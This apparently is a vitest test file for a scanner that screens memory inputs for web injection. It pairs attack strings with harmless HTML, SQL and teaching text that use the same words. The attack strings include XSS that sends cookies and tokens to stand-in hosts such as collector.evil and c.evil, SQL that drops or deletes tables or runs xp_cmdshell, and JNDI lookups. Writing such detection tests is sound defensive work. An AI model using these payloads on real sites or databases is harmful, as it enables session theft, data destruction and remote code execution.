// Payloads aimed at the programs a memory flows into (rules/code/web-payloads.ts): script injected into HTML, SQL that
// breaks out of a quoted value, JNDI lookups. In the manner of garak's web and SQL payload lists, written here in our
// own words, each beside a page, a query or a lesson that shares its words and attacks nothing.
import { describe, expect, it } from 'vitest'
import { scan } from '../../src/scan'

const webFindings = (text: string) => scan(text).findings.filter((f) => f.rule === 'code/web-injection')

const TAKES: string[] = [
  "<svg onload=fetch('https://collector.evil/?c='+document.cookie)>",
  "<body onload=eval(atob('YWxlcnQoMSk='))>",
  '"><script src=https://cdn.evil/x.js></script>',
  "<script>new Image().src='https://c.evil/?k='+localStorage.getItem('token')</script>",
  "'; DROP TABLE users; --",
  '"); DELETE FROM accounts WHERE 1=1 --',
  "1; EXEC xp_cmdshell('whoami')--",
  '${jndi:ldap://c.evil:1389/a}',
  '${${lower:j}ndi:rmi://c.evil/x}',
]

const PROBES: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.domain)>',
  'javascript:alert(document.domain)',
  '<iframe src="javascript:alert(1)"></iframe>',
  "' OR '1'='1' --",
  "admin' UNION SELECT username, password FROM users --",
  "1' AND SLEEP(5)--",
]

const PAGES_AND_LESSONS: string[] = [
  '<html><head><script src="https://cdn.jsdelivr.net/npm/jquery.min.js"></script><script>document.cookie = "consent=yes; path=/"</script></head><body><a href="javascript:void(0)" onclick="toggleMenu()">Menu</a></body></html>',
  '<meta name="author" content="Nora Vick"><script src="/js/highlight.min.js"></script>',
  '<button onclick="window.location=\'/checkout\'">Buy</button>',
  '<img src="logo.png" onerror="this.src=\'fallback.png\'">',
  "SELECT name, email FROM users WHERE name = 'Alice' OR name = 'Bob';",
  'Our Spring config uses ${server.url:http://localhost:8080} as the default.',
  'He said "don\'t drop the table"; then we DELETE FROM cache WHERE expired = 1;',
]

const TAUGHT: string[] = [
  "The classic example of SQL injection is the input `' OR '1'='1`, which makes the WHERE clause always true; use parameterized queries.",
  'To test for XSS, put `<script>alert(1)</script>` in the search box and see whether a dialog appears.',
  'Log4Shell (CVE-2021-44228) was triggered by strings like `${jndi:ldap://attacker/a}` in log messages; upgrade to 2.17.',
  "ModSecurity: Warning. Matched \"Operator `Rx'\" against variable `ARGS:q' (Value: `<script>alert(document.cookie)</script>')",
]

describe('web payloads that take the session, load code or change the database: rejected', () => {
  it.each(TAKES)('%s', (text) => {
    expect(webFindings(text).map((f) => f.severity)).toContain('high')
    expect(scan(text).decision).toBe('reject')
  })
})

describe('probes that only show the hole: held for review', () => {
  it.each(PROBES)('%s', (text) => {
    expect(webFindings(text).map((f) => f.severity)).toEqual(['medium'])
    expect(scan(text).decision).not.toBe('approve')
  })
})

describe('pages, queries and placeholders that share their words: nothing', () => {
  it.each(PAGES_AND_LESSONS)('%s', (text) => {
    expect(webFindings(text)).toEqual([])
  })
})

describe('a lesson, a test or a log that quotes the payload: low, approved', () => {
  it.each(TAUGHT)('%s', (text) => {
    const findings = webFindings(text)
    expect(findings.length).toBeGreaterThan(0)
    expect(findings.every((f) => f.severity === 'low')).toBe(true)
    expect(scan(text).decision).toBe('approve')
  })
})
